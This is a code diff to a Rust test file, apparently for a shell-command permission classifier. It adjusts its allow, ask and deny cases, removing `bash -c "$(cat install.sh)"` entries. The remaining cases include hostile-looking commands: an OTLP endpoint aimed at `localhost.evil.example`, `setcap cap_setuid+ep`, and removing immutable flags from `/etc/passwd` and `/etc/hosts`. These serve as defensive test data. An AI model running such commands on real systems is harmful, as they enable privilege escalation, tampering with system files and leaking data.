@@ -3052,8 +3052,7 @@ fn h_ben14_neighbours() -> Vec<Base> {
 /// metadata, type or labels, Vault's metadata and curl-string forms, helm release names that
 /// start like a verb, anonymous docker volumes and single character devices, skopeo copies to
 /// local transports, health probes of control planes, ref listings cut down by text filters, test and scratch databases and tables, accented
-/// Latin host names, a no-break space inside a program name, service endpoints on loopback,
-/// shell code substituted from a local file (`bash -c "$(cat install.sh)"`, run as the file),
+/// Latin host names, a no-break space inside a program name, `*_ENDPOINT` on loopback,
 /// `setcap -r`, immutable flags lifted from the project's own files, git words after `--`, a
 /// CLI's local contexts, the default package registries, plain folders named after a security
 /// tool inside the project or a temporary folder.
@@ -3089,7 +3088,6 @@ fn h_ben15_benign() -> Vec<Base> {
         "screen\u{a0}-S david",
         "OTEL_EXPORTER_OTLP_ENDPOINT=http://localhost:4317 npm start",
         "export OPENAI_BASE_URL=http://127.0.0.1:11434/v1",
-        "/bin/bash -c \"$(cat install.sh)\"",
         "setcap -r ./build/tool",
         "chflags -R nouchg build",
         "git switch -- -f",
@@ -3156,8 +3154,6 @@ fn h_ben15_neighbours() -> Vec<Base> {
             "OTEL_EXPORTER_OTLP_ENDPOINT=http://localhost.evil.example:4317 npm start",
         ),
         ("ask", "export HTTPS_PROXY=http://127.0.0.1:8080"),
-        ("ask", "bash -c \"$(cat $F)\""),
-        ("ask", "bash -c \"$(cat install.sh | tr -d x)\""),
         ("deny", "setcap cap_setuid+ep ./build/tool"),
         ("deny", "chattr -i /etc/passwd"),
         ("deny", "chflags -R nouchg build /etc/hosts"),
